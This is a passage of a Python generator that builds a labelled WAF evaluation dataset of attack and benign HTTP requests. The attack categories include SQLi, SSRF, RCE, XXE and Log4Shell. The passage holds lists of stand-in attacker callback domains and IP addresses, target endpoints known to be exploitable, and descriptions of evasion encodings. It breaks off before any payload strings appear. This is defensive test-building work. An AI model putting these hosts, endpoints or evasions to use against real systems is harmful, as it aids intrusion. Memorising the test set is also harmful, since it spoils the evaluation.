#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v27" (waf_unseen_eighteenth.jsonl).

Provenance: written blind on 2026-12-08 by a helper session that read none of
the WAF's rules, checks, source code, tests, docs, benchmarks or corpora (only
the output-format docstring of make_waf_unseen_fourteenth.py was consulted, to
copy the row format).  Attack payloads were composed from general knowledge of
the techniques (no payload lists were fetched or copied); benign traffic was
composed from general knowledge of ordinary web/API usage.  Source tag "v27";
all randomness comes from random.Random(181818), so two runs give
byte-identical output.  Standard library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_eighteenth.py

Output: waf_unseen_eighteenth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v27-a-<category>-NNNN" (attack) / "v27-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 20 of them hard;
             800 in all);
             benign: benign_logistics, benign_insurance, benign_dating,
             benign_news, benign_devtools, benign_code_review,
             benign_search, benign_graphql, benign_urls, benign_files,
             benign_base64, benign_api_json, benign_forms, benign_headers,
             benign_richtext (the first five kinds 74 rows, the other ten 73
             rows, 1100 in all; every third row of a kind, 25 per kind, is
             hard); 1900 rows in total.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF; never Content-Length
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document; a query_key may have no "=", as sent to raw-query and
             php-cgi style handlers); a form row may carry the payload as a
             value or as a field name (e.g. "password[$ne]", Spring
             "class.module..."); a json row may carry it 10+ levels deep or
             after 300+ characters of ordinary text in the same value; a
             multipart row carries it as a text field, a field name, a file's
             content or a file's filename; an xml row is either a value inside
             an element or (xxe, XStream, XMLDecoder, SOAP, benign feeds and
             documents) the whole document.  A header row with placement
             header may put the payload in a standard header (User-Agent,
             Referer, Accept, Host, Content-Type, ...) or in a custom one.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity/character-reference decoding; header
             values are not decoded).  Deliberate encoded evasions (double
             percent-encoding, %uXXXX, overlong UTF-8, literal %0d%0a in a
             header, ...) are kept literally, i.e. the raw request carries
             them percent-encoded once more.  Over-encoded raw requests
             (every byte, or a random mix of bytes, percent-encoded with
             mixed-case hex) decode to the same payload.  Two query rows are
             percent-encoded as Latin-1 bytes (%AD soft hyphen for php-cgi
             CVE-2024-4577, %BF for a GBK wide-byte quote).  For JSON values
             that are objects or arrays (NoSQL operators, gadget objects,
             structured benign values) the payload is the compact JSON text
             (when the raw body spells its strings with \\u escapes, the
             payload is the compact JSON text of the decoded value).  For a
             GraphQL document the payload is the whole "query" string.
  hard       true for evasive attacks (20 of 50 per category: raw
             encodings, JSON \\u escapes, XML character references, base64
             and gzip layers, odd IP spellings, language-level obfuscation,
             deep nesting, padding with ordinary text) and for benign rows
             deliberately prone to false positives (every third row)
  source     "v27"
"""

import base64
import gzip
import hashlib
import json
import random
import re
import struct
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote, quote_plus, unquote, unquote_plus

R = random.Random(181818)
SRC = "v27"
OUT = Path(__file__).parent / "waf_unseen_eighteenth.jsonl"

# ---------------------------------------------------------------- helpers

HEXD = "0123456789abcdef"
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
LOWER = "abcdefghijklmnopqrstuvwxyz0123456789"


def ch(seq):
    return seq[R.randrange(len(seq))]


def rint(a, b):
    return R.randint(a, b)


def rhex(n):
    return "".join(HEXD[R.randrange(16)] for _ in range(n))


def ralnum(n, alpha=ALNUM):
    return "".join(alpha[R.randrange(len(alpha))] for _ in range(n))


def ruuid():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], "89ab"[R.randrange(4)], h[17:20], h[20:])


def rbytes(n):
    return bytes(R.randrange(256) for _ in range(n))


def b64(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.b64encode(b).decode("ascii")


def b64url(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.urlsafe_b64encode(b).decode("ascii").rstrip("=")


def gz64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return b64(gzip.compress(s, compresslevel=9, mtime=0))


def jcompact(o):
    return json.dumps(o, ensure_ascii=False, separators=(",", ":"))


def rjwt(claims=None, alg="RS256"):
    hdr = {"alg": alg, "typ": "JWT", "kid": rhex(16)}
    now = 1764000000 + rint(0, 2000000)
    body = {
        "sub": ruuid(),
        "iat": now,
        "exp": now + 3600,
        "iss": "https://auth.%s.com/" % ch(["corvid", "halyard", "ember", "tessera"]),
    }
    if claims:
        body.update(claims)
    sig = rbytes(256 if alg.startswith("RS") else 32)
    return b64url(jcompact(hdr)) + "." + b64url(jcompact(body)) + "." + b64url(sig)


def pad_int(n, w):
    return str(n).zfill(w)


# ---------------------------------------------------------------- encoders

Q_SAFE = "/:,@!$*'()~"
P_SAFE = "/:@!$*'(),;=~"
C_SAFE = "/:@!$*'()[]{}<>?^|`~="
RAW_EXTRA = '<>"{}|\\^`[]'


def _hexcase(b):
    h = "%02X" % b
    return h.lower() if R.random() < 0.5 else h


def pct_all(s):
    return "".join("%" + _hexcase(b) for b in s.encode("utf-8"))


def pct_mixed(s, safe):
    out = []
    for c in s:
        if c.isascii() and c.isalnum():
            if R.random() < 0.35:
                out.append("%" + _hexcase(ord(c)))
            else:
                out.append(c)
        elif c.isascii() and c in safe + "-._" and R.random() < 0.5:
            out.append(c)
        else:
            out.append("".join("%" + _hexcase(b) for b in c.encode("utf-8")))
    return "".join(out)


def qenc(s, mode=None, safe=Q_SAFE):
    """Percent-encode a query/path/cookie component so that one round of
    URL-decoding gives back s exactly."""
    if mode == "plus":
        return quote_plus(s, safe=safe)
    if mode == "all":
        return pct_all(s)
    if mode == "mixed":
        return pct_mixed(s, safe)
    if mode == "latin1":
        return quote(s, safe=safe, encoding="latin-1")
    if mode == "raw":
        return quote(s, safe=safe + RAW_EXTRA)
    return quote(s, safe=safe)


def fenc(s, mode=None):
    """application/x-www-form-urlencoded value."""
    if mode in ("all", "mixed", "raw"):
        return qenc(s, mode, safe="*")
    return quote_plus(s, safe="*")


def uesc(c, upper=False):
    o = ord(c)
    fmt = "\\u%04X" if upper else "\\u%04x"
    if o > 0xFFFF:
        o -= 0x10000
        return fmt % (0xD800 + (o >> 10)) + fmt % (0xDC00 + (o & 0x3FF))
    return fmt % o


def jstr(s, mode=None):
    """JSON string literal for s; mode ju = every char \\u-escaped, jsp =
    non-alphanumerics escaped, jmix = a random half escaped."""
    if mode is None:
        return json.dumps(s, ensure_ascii=False)
    up = R.random() < 0.5
    out = ['"']
    for c in s:
        std = json.dumps(c, ensure_ascii=False)[1:-1]
        if mode == "ju":
            out.append(uesc(c, up))
        elif mode == "jsp":
            out.append(std if (c.isascii() and c.isalnum()) else uesc(c, up))
        elif mode == "jmix":
            out.append(uesc(c, up) if R.random() < 0.5 else std)
        else:
            raise ValueError(mode)
    out.append('"')
    return "".join(out)


def jdump_esc(o, mode):
    """Compact JSON with every string literal written by jstr(mode)."""
    if isinstance(o, dict):
        return "{" + ",".join(jdump_esc(k, mode) + ":" + jdump_esc(v, mode) for k, v in o.items()) + "}"
    if isinstance(o, list):
        return "[" + ",".join(jdump_esc(v, mode) for v in o) + "]"
    if isinstance(o, str):
        return jstr(o, mode)
    return json.dumps(o)


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")


def xref(s, frac=1.0):
    out = []
    for c in s:
        if (not (c.isascii() and c.isalnum())) or R.random() < frac * 0.4:
            if R.random() < 0.5:
                out.append("&#x%x;" % ord(c))
            else:
                out.append("&#%d;" % ord(c))
        else:
            out.append(c)
    return "".join(out)


# ---------------------------------------------------------------- clients

ACCEPT_LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.9",
    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "fr-FR,fr;q=0.9,en;q=0.8",
    "es-ES,es;q=0.9,en;q=0.8",
    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "ja-JP,ja;q=0.9,en-US;q=0.8",
    "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7",
    "zh-CN,zh;q=0.9,en;q=0.8",
    "pl-PL,pl;q=0.9,en-US;q=0.8",
    "nl-NL,nl;q=0.9,en;q=0.8",
    "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
    "sv-SE,sv;q=0.9,en;q=0.8",
    "ar-SA,ar;q=0.9,en;q=0.8",
    "he-IL,he;q=0.9,en-US;q=0.8",
    "uk-UA,uk;q=0.9,ru;q=0.8,en;q=0.7",
    "hi-IN,hi;q=0.9,en-IN;q=0.8,en;q=0.7",
    "it-IT,it;q=0.9,en;q=0.8",
    "en-AU,en;q=0.9",
    "fr-CA,fr;q=0.9,en-CA;q=0.8,en;q=0.7",
    "vi-VN,vi;q=0.9,en;q=0.8",
]

BROWSERS = [
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "chrome",
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "chrome",
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
        "chrome",
    ),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36", "chrome"),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
        "chrome",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        "chrome",
    ),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "firefox"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0", "firefox"),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "safari",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Mobile/15E148 Safari/604.1",
        "safari",
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
        "safari",
    ),
]

SERVER_UAS = [
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "axios/1.7.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/17.0.12",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "okhttp/4.12.0",
    "aiohttp/3.10.10",
    "Faraday v2.12.0",
    "GuzzleHttp/7",
    "PostmanRuntime/7.42.0",
    "undici",
    "Ruby",
    "python-httpx/0.27.2",
    "Deno/2.1.2",
]
CLI_UAS = ["curl/8.5.0", "curl/7.81.0", "Wget/1.21.4", "HTTPie/3.2.4", "curl/8.11.0"]

HTML_ACCEPT = {
    "chrome": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "firefox": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "safari": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}
ENC = {"chrome": "gzip, deflate, br, zstd", "firefox": "gzip, deflate, br, zstd", "safari": "gzip, deflate, br"}


def brand_of(host):
    parts = host.split(".")
    base = parts[-2] if len(parts) >= 2 else parts[0]
    return "".join(w.capitalize() for w in base.split("-"))


def session_cookies(host):
    b = brand_of(host).lower()
    opts = [
        "_ga=GA1.1.%d.%d" % (rint(100000000, 999999999), rint(1700000000, 1765000000)),
        "_ga_%s=GS1.1.%d.%d.1.1.%d.0.0.0"
        % (
            ralnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
            rint(1700000000, 1765000000),
            rint(2, 40),
            rint(1700000000, 1765000000),
        ),
        "%s_session=%s" % (b, rhex(40)),
        "csrftoken=%s" % ralnum(32),
        "XSRF-TOKEN=%s" % ralnum(40),
        "sessionid=%s" % ralnum(32, LOWER),
        "cf_clearance=%s-%d-1.2.1.1-%s" % (ralnum(43), rint(1700000000, 1765000000), ralnum(40)),
        "__stripe_mid=%s" % ruuid(),
        "locale=%s" % ch(["en-US", "de-DE", "fr-FR", "es-MX", "ja-JP", "pt-BR"]),
        "theme=%s" % ch(["dark", "light", "system"]),
        "_fbp=fb.1.%d.%d" % (rint(1700000000000, 1765000000000), rint(100000000, 999999999)),
        "ajs_anonymous_id=%s" % ruuid(),
    ]
    k = rint(1, 4)
    return R.sample(opts, k)


def make_client(kind, host, method, has_body, accept=None, referer=True):
    """Return (ua, accept, [(header, value), ...], cookie_list)."""
    extras = []
    cookies = []
    if kind in ("browser", "xhr"):
        ua, fam = ch(BROWSERS)
        if kind == "browser":
            acc = HTML_ACCEPT[fam]
        else:
            acc = ch(["application/json, text/plain, */*", "*/*", "application/json"])
        extras.append(("Accept-Language", ch(ACCEPT_LANGS)))
        extras.append(("Accept-Encoding", ENC[fam]))
        if method not in ("GET", "HEAD"):
            extras.append(("Origin", "https://" + host))
        if referer and R.random() < 0.7:
            extras.append(
                (
                    "Referer",
                    "https://%s%s"
                    % (host, ch(["/", "/dashboard", "/account", "/search", "/app/", "/home", "/settings/profile"])),
                )
            )
        if kind == "browser":
            if method == "GET":
                extras.append(("Upgrade-Insecure-Requests", "1"))
            extras.append(("Sec-Fetch-Dest", "document"))
            extras.append(("Sec-Fetch-Mode", "navigate"))
            extras.append(("Sec-Fetch-Site", ch(["same-origin", "none", "same-origin", "cross-site"])))
        else:
            extras.append(("Sec-Fetch-Dest", "empty"))
            extras.append(("Sec-Fetch-Mode", "cors"))
            extras.append(("Sec-Fetch-Site", "same-origin"))
            if R.random() < 0.3:
                extras.append(("X-Requested-With", "XMLHttpRequest"))
            if method not in ("GET", "HEAD") and R.random() < 0.4:
                extras.append(("X-CSRF-Token", ralnum(43)))
        if R.random() < 0.75:
            cookies = session_cookies(host)
    elif kind == "mobile":
        brand = brand_of(host)
        ver = "%d.%d.%d" % (rint(3, 9), rint(0, 20), rint(0, 9))
        ua = ch(
            [
                "%s/%s (iPhone; iOS 18.%d; Scale/3.00)" % (brand, ver, rint(0, 2)),
                "%s/%s (com.%s.android; build:%d; Android 14) okhttp/4.12.0"
                % (brand, ver, brand.lower(), rint(10000, 99999)),
                "%s/%d CFNetwork/1568.200.51 Darwin/24.1.0" % (brand, rint(100, 9999)),
                "Dalvik/2.1.0 (Linux; U; Android 14; SM-A546B Build/UP1A.231005.007)",
            ]
        )
        acc = "application/json"
        extras.append(("Accept-Language", ch(ACCEPT_LANGS).split(",")[0]))
        extras.append(("Accept-Encoding", "gzip"))
        extras.append(("Authorization", "Bearer " + rjwt()))
        extras.append(("X-App-Version", ver))
        if R.random() < 0.5:
            extras.append(("X-Device-Id", ruuid().upper()))
    elif kind == "server":
        ua = ch(SERVER_UAS)
        acc = ch(["*/*", "application/json", "application/json, text/plain, */*"])
        if ua.startswith("python-requests"):
            acc = "*/*"
            extras.append(("Accept-Encoding", "gzip, deflate"))
            extras.append(("Connection", "keep-alive"))
        r = R.random()
        if r < 0.45:
            extras.append(("Authorization", "Bearer " + rjwt()))
        elif r < 0.7:
            extras.append(("X-Api-Key", ch(["sk_live_", "pk_", "key_", "ak_"]) + ralnum(32)))
        if R.random() < 0.4:
            extras.append(("X-Request-Id", ruuid()))
    else:  # cli
        ua = ch(CLI_UAS)
        acc = "*/*"
        if R.random() < 0.3:
            extras.append(
                (
                    "Authorization",
                    "Basic " + b64("%s:%s" % (ch(["ops", "deploy", "admin", "ci-bot", "monitor"]), ralnum(16))),
                )
            )
    if accept:
        acc = accept
    return ua, acc, extras, cookies


# ---------------------------------------------------------------- rows

ROWS = []
COUNT = {}


def emit(
    label,
    cat,
    hard,
    placement,
    payload,
    host,
    method,
    path,
    query="",
    body="",
    ctype=None,
    kind="xhr",
    accept=None,
    headers=(),
    cookies=(),
    override=None,
    no_session=False,
    referer=True,
):
    """Assemble one row.  headers/cookies are extra (name, value) pairs /
    raw "name=value" cookie strings; override replaces Host/User-Agent/
    Accept/Content-Type values (payload in a standard header)."""
    ua, acc, extras, sess = make_client(kind, host, method, bool(body), accept, referer)
    if no_session:
        sess = []
    hd = {"Host": host, "User-Agent": ua, "Accept": acc}
    if body:
        hd["Content-Type"] = ctype
    ov = dict(override or {})
    for k in ("Host", "User-Agent", "Accept", "Content-Type"):
        if k in ov:
            hd[k] = ov.pop(k)
    names_lower = {k.lower() for k in hd}
    extra_names = {k.lower() for k, _ in headers} | {k.lower() for k in ov}
    for k, v in extras:
        if k.lower() not in names_lower and k.lower() not in extra_names:
            hd[k] = v
            names_lower.add(k.lower())
    for k, v in list(headers) + list(ov.items()):
        hd[k] = v
    allc = list(sess) + list(cookies)
    if cookies:
        # payload cookie somewhere among the ordinary ones
        allc = list(sess)
        for c in cookies:
            allc.insert(R.randrange(len(allc) + 1), c)
    if allc and "Cookie" not in hd:
        hd["Cookie"] = "; ".join(allc)
    COUNT[cat] = COUNT.get(cat, 0) + 1
    rid = "%s-%s-%s-%04d" % (SRC, "a" if label == "attack" else "b", cat, COUNT[cat])
    row = {
        "id": rid,
        "label": label,
        "category": cat,
        "method": method,
        "path": path,
        "query": query,
        "headers": hd,
        "body": body,
        "placement": placement,
        "payload": payload,
        "hard": bool(hard),
        "source": SRC,
    }
    ROWS.append(row)
    return row


def qpairs(pairs, plus=False):
    """Encode ordinary (key, value) pairs; value None means key only."""
    out = []
    for k, v in pairs:
        ke = quote(k, safe="[]")
        if v is None:
            out.append(ke)
        else:
            out.append(ke + "=" + qenc(str(v), "plus" if plus else None))
    return "&".join(out)


def fpairs(pairs):
    return "&".join(quote_plus(k, safe="*") + "=" + fenc(str(v)) for k, v in pairs)


def boundary(style=None):
    style = style if style is not None else R.randrange(4)
    if style == 0:
        return "----WebKitFormBoundary" + ralnum(16)
    if style == 1:
        return "-" * 27 + "".join(str(R.randrange(10)) for _ in range(29))
    if style == 2:
        return rhex(32)
    return "-" * 24 + rhex(16)


def multipart(parts, bnd):
    """parts: (name, value, filename or None, content-type or None)."""
    lines = []
    for name, value, filename, ctype in parts:
        lines.append("--" + bnd)
        cd = 'form-data; name="%s"' % name
        if filename is not None:
            cd += '; filename="%s"' % filename
        lines.append("Content-Disposition: " + cd)
        if ctype:
            lines.append("Content-Type: " + ctype)
        lines.append("")
        lines.append(value)
    lines.append("--" + bnd + "--")
    return "\r\n".join(lines) + "\r\n"


SENT = "__V27_PAYLOAD__"
SENTK = "__V27_PAYLOADKEY__"


def jbody(obj, style=None):
    style = style if style is not None else R.randrange(3)
    if style == 0:
        return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    if style == 1:
        return json.dumps(obj)
    return json.dumps(obj, ensure_ascii=False, indent=2)


NEST_KEYS = [
    "data",
    "attributes",
    "payload",
    "options",
    "config",
    "spec",
    "meta",
    "context",
    "params",
    "filters",
    "settings",
    "profile",
    "details",
    "extra",
    "properties",
    "values",
    "input",
    "body",
    "content",
    "node",
    "rules",
    "criteria",
    "items",
    "layout",
    "section",
    "block",
    "fields",
    "state",
    "draft",
    "revision",
]


def nest(inner, depth):
    keys = R.sample(NEST_KEYS, depth)
    o = inner
    for k in keys:
        if R.random() < 0.15:
            o = {k: [o]}
        else:
            o = {k: o}
    return o


# ---------------------------------------------------------------- attacker infrastructure

OAST_BASES = [
    "oast.fun",
    "oast.live",
    "oast.site",
    "interact.sh",
    "oastify.com",
    "dnslog.cn",
    "ceye.io",
    "requestrepo.com",
]
EVIL_IPS = [
    "45.137.21.9",
    "185.220.101.47",
    "103.145.13.88",
    "91.92.240.113",
    "194.165.16.71",
    "5.188.206.14",
    "141.98.11.62",
    "179.43.187.20",
    "80.94.95.226",
    "62.204.41.176",
]
EVIL_DOMS = [
    "cdn-static-assets.net",
    "update-checker.org",
    "raw-paste.xyz",
    "img-cache.top",
    "files.tmpstore.io",
    "kbz-mirror.ru",
    "stat-counter.cc",
    "assets-jsdelivr.com",
    "gitlab-raw.site",
    "s3-eu-storage.net",
]


def oast():
    return ralnum(rint(8, 20), LOWER) + "." + ch(OAST_BASES)


def eip():
    return ch(EVIL_IPS)


def edom():
    return ch(EVIL_DOMS)


ORDINARY_TEXT = [
    "Hi team, following up on last week's call about the quarterly review. We went through the open items with "
    "finance and most of them are resolved now. The remaining two are the vendor invoice that was booked twice and "
    "the travel reimbursement for the Lisbon trip, which still needs a receipt. Could you please take a look when "
    "you have a minute and let me know if anything else is missing from our side? Thanks a lot, and have a great "
    "weekend!",
    "I ordered the walnut desk in October and it arrived with a scratch on the left leg. The delivery driver was very "
    "friendly and helped me carry it upstairs, which I appreciated. Customer service offered a partial refund or a "
    "replacement part; I would prefer the replacement part if it can be shipped before the holidays. The order "
    "number should be on the invoice I attached earlier. Please let me know what information you still need.",
    "Our community garden meets every Saturday morning at nine. This season we planted tomatoes, courgettes, "
    "beans and a small herb bed near the fence. Volunteers are welcome, no experience needed, and we always have "
    "spare gloves. Parking is available behind the library. If it rains we move to the community hall and sort "
    "seeds instead. Bring a water bottle and sunscreen, and feel free to bring friends or family along as well.",
    "Thank you for the quick turnaround on the translation. The German and French versions look great; the "
    "Japanese one has a couple of line breaks in odd places on the pricing page, probably because of the narrow "
    "column. Our designer will adjust the layout on Monday. For the next batch we would like to add Portuguese and "
    "Polish, with the same glossary as before. I will send the updated strings file by Wednesday afternoon.",
    "Meeting notes: attendance was good, eleven people joined in person and six remotely. We agreed to move the "
    "release to the second week of the month so that QA has enough time for the regression suite. Marketing will "
    "prepare the announcement and the support team will update the help center articles. Action items are "
    "assigned in the tracker; please update your tickets by Thursday so we can review progress on Friday.",
]


def longpad(p, sep=" "):
    t = ch(ORDINARY_TEXT)
    return t + sep + p


# ---------------------------------------------------------------- attack contexts

GENERIC_QFILL = [
    ("page", lambda: str(rint(1, 9))),
    ("lang", lambda: ch(["en", "de", "fr", "es", "pt", "ja"])),
    ("utm_source", lambda: ch(["newsletter", "google", "linkedin", "partner"])),
    ("per_page", lambda: ch(["10", "20", "25", "50"])),
    ("_", lambda: str(rint(1733000000000, 1765000000000))),
    ("v", lambda: "%d.%d" % (rint(1, 4), rint(0, 12))),
    ("ref", lambda: ch(["nav", "footer", "email", "home"])),
    ("format", lambda: ch(["json", "html"])),
    ("tz", lambda: ch(["UTC", "Europe/Berlin", "America/New_York", "Asia/Tokyo"])),
]
GENERIC_JFILL = [
    ("locale", lambda: ch(["en-US", "de-DE", "fr-FR", "ja-JP", "pt-BR", "es-MX"])),
    ("requestId", ruuid),
    ("clientVersion", lambda: "%d.%d.%d" % (rint(1, 7), rint(0, 30), rint(0, 9))),
    ("timezone", lambda: ch(["UTC", "Europe/Paris", "America/Chicago", "Asia/Singapore"])),
    ("source", lambda: ch(["web", "ios", "android", "api"])),
    ("dryRun", lambda: False),
    ("page", lambda: rint(1, 5)),
    ("tenantId", lambda: "t_" + ralnum(10, LOWER)),
    ("channel", lambda: ch(["email", "sms", "push"])),
]
GENERIC_FFILL = [
    ("csrf_token", lambda: ralnum(40)),
    ("submit", lambda: ch(["Save", "Send", "Submit", "Continue"])),
    ("remember", lambda: "on"),
    ("locale", lambda: ch(["en_US", "de_DE", "fr_FR"])),
    ("step", lambda: str(rint(1, 4))),
    ("_method", lambda: ch(["PUT", "PATCH"])),
    ("source", lambda: ch(["header", "modal", "page"])),
]


def fill(pool, k):
    return [(name, fn()) for name, fn in R.sample(pool, k)]


def C(hosts, paths, post_paths, path_tpl, params, headers, cookies):
    return dict(
        hosts=hosts,
        paths=paths,
        post_paths=post_paths,
        path_tpl=path_tpl,
        params=params,
        headers=headers,
        cookies=cookies,
    )


CTX = {
    "java_injection": C(
        [
            "portal.hanseatic-freight.de",
            "jira.orbitlabs.io",
            "erp.tallis-mfg.com",
            "api.kestrelpay.com",
            "intranet.brixworth-bank.co.uk",
        ],
        [
            "/struts2-showcase/index.action",
            "/app/search.action",
            "/api/v2/reports/render",
            "/rest/api/2/expression/eval",
            "/admin/rules/preview",
            "/ofbiz/control/main",
        ],
        [
            "/api/v2/rules/evaluate",
            "/actuator/env",
            "/api/v1/workflows/validate",
            "/rest/scriptrunner/latest/user/exec/",
            "/api/import/config",
            "/login.action",
        ],
        ["/{}/", "/api/v1/filters/{}", "/reports/{}/render", "/struts/{}/view.action"],
        ["expression", "filter", "condition", "sort", "template", "query", "rule", "expr", "name"],
        ["X-Expression", "X-Filter", "X-Rule", "X-Api-Version", "X-Tenant"],
        ["rememberMe", "viewstate", "prefs", "JSESSIONID_STATE", "dashboard_filter"],
    ),
    "php_injection": C(
        [
            "www.lindenhof-hotel.at",
            "shop.copperkettle.co.uk",
            "blog.marisol-travel.es",
            "crm.ferrovia-parts.it",
            "forum.trailhead-hikers.org",
        ],
        [
            "/index.php",
            "/wp-admin/admin-ajax.php",
            "/index.php/module/action",
            "/modules/gallery/view.php",
            "/cgi-bin/php-cgi",
            "/catalog/product.php",
        ],
        [
            "/index.php",
            "/wp-admin/admin-ajax.php",
            "/user/register",
            "/api/widget/save",
            "/_ignition/execute-solution",
            "/admin/settings.php",
        ],
        ["/index.php/{}", "/page/{}", "/gallery/{}/show", "/themes/{}/preview"],
        ["page", "cmd", "code", "callback", "func", "data", "template", "filter", "s", "lang"],
        ["X-Forwarded-Prefix", "X-Theme", "X-Plugin-Hook"],
        ["wp_settings", "cart", "PHPSESSID_data", "user_prefs", "remember_me"],
    ),
    "code_injection": C(
        [
            "calc.finlytics.io",
            "sandbox.codenest.dev",
            "api.reportforge.com",
            "notebooks.quantplex.ai",
            "bots.chatwright.com",
            "rules.shipwise.app",
        ],
        ["/api/v1/calc", "/eval", "/api/formula/preview", "/render", "/api/v2/sort", "/plugins/run"],
        [
            "/api/v1/calc",
            "/api/formula/evaluate",
            "/api/v2/notebooks/cells/run",
            "/api/rules/test",
            "/api/templates/compile",
            "/api/v1/transform",
        ],
        ["/api/v1/calc/{}", "/formula/{}", "/api/expr/{}"],
        ["expr", "formula", "code", "script", "callback", "sort_key", "transform", "filter", "value", "input"],
        ["X-Formula", "X-Transform", "X-Debug-Eval"],
        ["session", "profile", "prefs", "state"],
    ),
    "rfi": C(
        [
            "www.oakridge-dental.com",
            "portal.mauricio-legal.com.br",
            "cms.nordlicht-verlag.de",
            "www.tuscany-villas.it",
            "intranet.pinecrest-school.org",
        ],
        ["/index.php", "/view.php", "/main.php", "/modules/loader.php", "/templates/show.php", "/help/index.php"],
        ["/index.php", "/admin/theme/install", "/api/plugins/load", "/admin/import.php"],
        ["/index.php/{}", "/load/{}", "/page/{}"],
        ["page", "include", "template", "lang", "module", "file", "view", "skin", "theme", "path", "inc", "layout"],
        ["X-Template", "X-Include", "X-Skin"],
        ["lang", "template", "skin", "theme"],
    ),
    "ssrf": C(
        [
            "api.linkpeek.io",
            "hooks.formstack-clone.com",
            "app.pixelcrate.co",
            "import.sheetsync.net",
            "media.storybeam.tv",
            "integrations.deskflow.com",
        ],
        [
            "/api/v1/preview",
            "/fetch",
            "/_next/image",
            "/proxy",
            "/api/unfurl",
            "/image",
            "/api/v2/avatar/import",
            "/render/pdf",
        ],
        [
            "/api/v1/webhooks",
            "/api/integrations/test",
            "/api/import/url",
            "/api/v1/avatar",
            "/api/documents/from-url",
            "/api/feeds",
        ],
        ["/proxy/{}", "/unsafe/300x200/smart/{}", "/fetch/{}", "/thumb/{}"],
        [
            "url",
            "target",
            "image_url",
            "webhook_url",
            "callback",
            "src",
            "feed",
            "uri",
            "link",
            "endpoint",
            "remote",
            "dest",
        ],
        ["X-Forwarded-Host", "X-Original-URL", "X-Callback-Url", "X-Webhook-Target"],
        ["avatar_src", "last_feed", "preview_url"],
    ),
    "rce": C(
        [
            "router.homelink-net.com",
            "nas.fernwood-media.local",
            "monitor.cloudgrid.io",
            "devices.sensorhub.iot",
            "admin.printfleet.net",
            "tools.netcheck.app",
        ],
        [
            "/cgi-bin/ping.cgi",
            "/api/diagnostics/ping",
            "/api/v1/dns/lookup",
            "/tools/traceroute",
            "/api/convert",
            "/cgi-bin/status",
            "/api/backup/run",
        ],
        [
            "/api/diagnostics/ping",
            "/api/v1/jobs",
            "/admin/system/exec",
            "/api/convert/image",
            "/goform/setSysAdm",
            "/api/v1/hosts/check",
        ],
        ["/cgi-bin/{}", "/api/v1/hosts/{}/ping", "/tools/nslookup/{}"],
